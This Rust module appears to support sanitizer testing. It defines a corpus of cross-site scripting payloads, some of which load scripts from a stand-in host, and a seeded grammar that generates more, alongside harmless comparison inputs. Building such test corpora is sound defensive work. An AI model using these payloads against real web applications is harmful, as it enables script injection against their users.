//! What attackers write: a list of our own, and a grammar that goes on from it for ever. The same seed
//! says the same.

/// In every element, attribute, address and script that a payload tries to bring to life.
pub const TOKEN: &str = "zq7q";

/// One for each way out of a text, an attribute, an address, an element or the parser's good will.
const CORPUS: [&str; 48] = [
    "<script>window.__ran='zq7q'</script>",
    "<script src=//zq7q.example/x.js></script>",
    "<ScRiPt\u{c}>window.__ran='zq7q'</sCrIpT >",
    "<img src=zq7q onerror=window.__ran=1>",
    "<img/src='zq7q'/onerror='window.__ran=1'>",
    "<svg onload=window.__ran='zq7q'>",
    "<svg><animate onbegin=window.__ran='zq7q' attributeName=x dur=1s>",
    "<svg><style><img src=zq7q onerror=window.__ran=1></style></svg>",
    "<math><mi//xlink:href=\"javascript:window.__ran='zq7q'\">x",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.__ran=zq7q&gt;\">",
    "<details open ontoggle=window.__ran='zq7q'>",
    "<input autofocus onfocus=window.__ran='zq7q'>",
    "<iframe srcdoc=\"<script>parent.__ran='zq7q'</script>\">",
    "<object data=\"javascript:window.__ran='zq7q'\">",
    "<embed src=zq7q.swf>",
    "<base href=//zq7q.example/>",
    "<meta http-equiv=refresh content=\"0;url=//zq7q.example\">",
    "<link rel=stylesheet href=//zq7q.example/x.css>",
    "<style>*{background:url(//zq7q.example)}</style>",
    "<form action=//zq7q.example><button>Go</button>",
    "<button form=composer formaction=//zq7q.example>Go",
    "<div style=\"position:fixed;inset:0;background:url(//zq7q.example)\">",
    "<div id=messages class=zq7q name=composer>clobbered</div>",
    "<div hx-get=/session/delete?zq7q hx-trigger=load>",
    "<div data-hx-post=/zq7q data-hx-trigger=load hx-on:load=window.__ran=1>",
    "<hx-partial hx-target=#composer>zq7q</hx-partial>",
    "<template><img src=zq7q onerror=window.__ran=1></template>",
    "<noscript><p title=\"</noscript><img src=zq7q onerror=window.__ran=1>\">",
    "<textarea></textarea><img src=zq7q onerror=window.__ran=1>",
    "\"><img src=zq7q onerror=window.__ran=1>",
    "'><img src=zq7q onerror=window.__ran=1>",
    "\" onmouseover=\"window.__ran='zq7q'\" x=\"",
    "' autofocus onfocus='window.__ran=1' zq7q='",
    "</textarea><script>window.__ran='zq7q'</script>",
    "</title><script>window.__ran='zq7q'</script>",
    "</script><script>window.__ran='zq7q'</script>",
    "--><script>window.__ran='zq7q'</script><!--",
    "]]><script>window.__ran='zq7q'</script>",
    "<!--><img src=zq7q onerror=window.__ran=1>-->",
    "&lt;img src=zq7q onerror=window.__ran=1&gt;",
    "&#60;img src=zq7q onerror=window.__ran=1&#62;",
    "[zq7q](javascript:window.__ran=1)",
    "[zq7q](java&#10;script:window.__ran=1)",
    "[zq7q](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==)",
    "![zq7q](x\" onerror=\"window.__ran=1)",
    "<https://zq7q.example/\"onmouseover=\"window.__ran=1>",
    "```zq7q\" onmouseover=\"window.__ran=1\n</code></pre><img src=zq7q onerror=window.__ran=1>\n```",
    "{{constructor.constructor('window.__ran=`zq7q`')()}}${window.__ran='zq7q'}",
];

const BREAKERS: [&str; 22] = [
    "",
    "\"",
    "'",
    "`",
    ">",
    "\">",
    "'>",
    "\"/>",
    "</a>",
    "</p></div></article>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</template>",
    "</svg>",
    "-->",
    "]]>",
    "\n\n",
    "\u{0}",
    "&quot;>",
    "\\\">",
];
const NAMES: [&str; 26] = [
    "script",
    "img",
    "svg",
    "math",
    "iframe",
    "a",
    "b",
    "p",
    "video",
    "audio",
    "body",
    "style",
    "link",
    "meta",
    "base",
    "form",
    "input",
    "button",
    "object",
    "embed",
    "template",
    "zq7q-x",
    "hx-partial",
    "details",
    "foreignObject",
    "annotation-xml",
];
const ATTRIBUTES: [&str; 22] = [
    "onerror=window.__ran=1",
    "onload=window.__ran=1",
    "onfocus=window.__ran=1",
    "ONMOUSEOVER='window.__ran=1'",
    "src=zq7q",
    "src=//zq7q.example",
    "href=javascript:zq7q",
    "href=\"java\tscript:zq7q\"",
    "href='&#106;avascript:zq7q'",
    "href=//zq7q.example",
    "style=x:zq7q",
    "id=zq7q",
    "name=zq7q",
    "class=zq7q",
    "hx-get=/zq7q",
    "data-hx-get=/zq7q",
    "hx-trigger=load",
    "ws-connect=/zq7q",
    "autofocus",
    "srcdoc='<script>window.__ran=1</script>'",
    "formaction=//zq7q.example",
    "xlink:href=javascript:zq7q",
];
const SPACES: [&str; 6] = [" ", "/", "\t", "\n", "\u{c}", " / "];
const TEXTS: [&str; 12] = [
    "zq7q",
    "window.__ran='zq7q'",
    "<",
    ">",
    "&",
    "&lt;zq7q&gt;",
    "\u{202e}zq7q",
    "\u{feff}",
    "*_`zq7q",
    "@Ada ",
    "https://zq7q.example/?a=\"'><",
    "zq7q@example.com",
];

/// Chance that can be repeated: SplitMix64.
pub struct Dice(pub u64);

impl Dice {
    pub fn below(&mut self, count: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        ((z ^ (z >> 31)) % count as u64) as usize
    }

    fn one<'a>(&mut self, of: &[&'a str]) -> &'a str {
        of[self.below(of.len())]
    }

    fn made(&mut self) -> String {
        let mut text = self.one(&BREAKERS).to_owned();
        for _ in 0..=self.below(2) {
            let name = self.one(&NAMES);
            text += "<";
            text += &if self.below(4) == 0 { name.to_uppercase() } else { name.to_owned() };
            for _ in 0..=self.below(2) {
                text += self.one(&SPACES);
                text += self.one(&ATTRIBUTES);
            }
            text += self.one(&[">", ">", ">", "/>", "", "\n>"]);
            text += self.one(&TEXTS);
            if self.below(3) == 0 {
                text += &format!("</{name}>");
            }
        }
        if !text.contains(TOKEN) {
            text += TOKEN;
        }
        text
    }
}

/// So many payloads: the list first, and then what the grammar makes.
pub fn payloads(seed: u64, count: usize) -> Vec<String> {
    let mut dice = Dice(seed);
    let list = CORPUS.iter().map(|payload| (*payload).to_owned());
    let mut all: Vec<String> = list.collect();
    all.resize_with(count.max(CORPUS.len()), || dice.made());
    all
}

/// What harmless people write in the same places, for comparison.
pub fn harmless(count: usize) -> Vec<String> {
    let kinds = [
        "zq7q is a word",
        "**zq7q** and _more_ ~~less~~",
        "https://example.com/zq7q",
        "`zq7q` with `code`",
        "zq7q@example.com",
        "> zq7q",
        "- zq7q",
        "# zq7q",
        "```zq\nzq7q\n```",
        "[zq7q](https://example.com/zq7q)",
        "1. zq7q",
        "@Ada zq7q",
    ];
    (0..count).map(|n| kinds[n % kinds.len()].to_owned()).collect()
}
